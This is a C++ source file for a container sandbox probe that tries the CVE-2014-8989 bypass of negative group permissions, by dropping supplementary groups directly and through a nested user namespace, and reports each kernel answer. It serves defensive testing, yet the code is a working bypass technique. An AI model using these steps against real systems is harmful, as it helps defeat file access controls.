// stockade-groups-probe: tries to get past a negative permission by dropping
// a supplementary group (CVE-2014-8989: a file of mode 0604 whose group is one
// of the process's own is closed to it, open to others), the ways a container
// process could, and prints what the kernel answered, one line each:
//
//   stockade-groups-probe PATH
//
//   groups 2000 3000                 getgroups(2), as this process sees them
//   read errno=EACCES                PATH opened for reading
//   setgroups errno=EPERM            setgroups(0, NULL): drop every group
//   read errno=EACCES                PATH again, after it
//   nested unshare ok                a user namespace of its own (a child)
//   nested setgroups-allow errno=EPERM   its /proc/PID/setgroups set to "allow"
//   nested gid_map ok                the child's maps written by this process
//   nested uid_map ok
//   nested setgroups errno=EPERM     the child, root of its namespace, drops its groups
//   nested read errno=EACCES         and tries PATH
//
// "ok" where a line says errno means the attack got that far. Every step is
// tried even after one fails, so the output shows where each wall stood.
// Harmless where the sandbox fails: it changes only this process and its
// child. Exit status 0 once every line is printed. Only libc.

#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

namespace {

void say(const char* what, int result) {
    if (result >= 0)
        std::printf("%s ok\n", what);
    else
        std::printf("%s errno=%s\n", what, strerrorname_np(errno));
    std::fflush(stdout);
}

int tryRead(const char* path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) close(fd);
    return fd;
}

int writeFile(const char* path, const char* text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    int err = errno;
    close(fd);
    errno = err;
    return n == static_cast<ssize_t>(strlen(text)) ? 0 : -1;
}

void printGroups() {
    gid_t groups[256];
    int n = getgroups(256, groups);
    std::printf("groups");
    for (int i = 0; i < n; ++i) std::printf(" %u", groups[i]);
    std::printf("\n");
    std::fflush(stdout);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: stockade-groups-probe PATH\n");
        return 2;
    }
    const char* path = argv[1];
    printGroups();
    say("read", tryRead(path));
    // In its own child, so that the nested attempt below starts with every
    // group whatever this one did.
    pid_t direct = fork();
    if (direct == 0) {
        say("setgroups", setgroups(0, nullptr));
        say("read", tryRead(path));
        _exit(0);
    }
    waitpid(direct, nullptr, 0);

    // A child in a user namespace of its own, whose maps this process (in
    // the container's namespace, the child's parent one) writes: with
    // setgroups "allow" there, the child, root of its namespace, could drop
    // a group.
    int go[2], ready[2];
    if (pipe(go) < 0 || pipe(ready) < 0) return 1;
    pid_t child = fork();
    if (child == 0) {
        close(go[1]);
        close(ready[0]);
        int unshared = unshare(CLONE_NEWUSER);
        say("nested unshare", unshared);
        char byte = 0;
        (void)!write(ready[1], &byte, 1);
        (void)!read(go[0], &byte, 1);
        say("nested setgroups", setgroups(0, nullptr));
        say("nested read", tryRead(path));
        _exit(0);
    }
    close(go[0]);
    close(ready[1]);
    char byte;
    (void)!read(ready[0], &byte, 1);
    char file[64], line[64];
    std::snprintf(file, sizeof file, "/proc/%d/setgroups", child);
    say("nested setgroups-allow", writeFile(file, "allow"));
    std::snprintf(file, sizeof file, "/proc/%d/gid_map", child);
    std::snprintf(line, sizeof line, "0 %u 1\n", getegid());
    say("nested gid_map", writeFile(file, line));
    std::snprintf(file, sizeof file, "/proc/%d/uid_map", child);
    std::snprintf(line, sizeof line, "0 %u 1\n", geteuid());
    say("nested uid_map", writeFile(file, line));
    (void)!write(go[1], &byte, 1);
    waitpid(child, nullptr, 0);
    return 0;
}
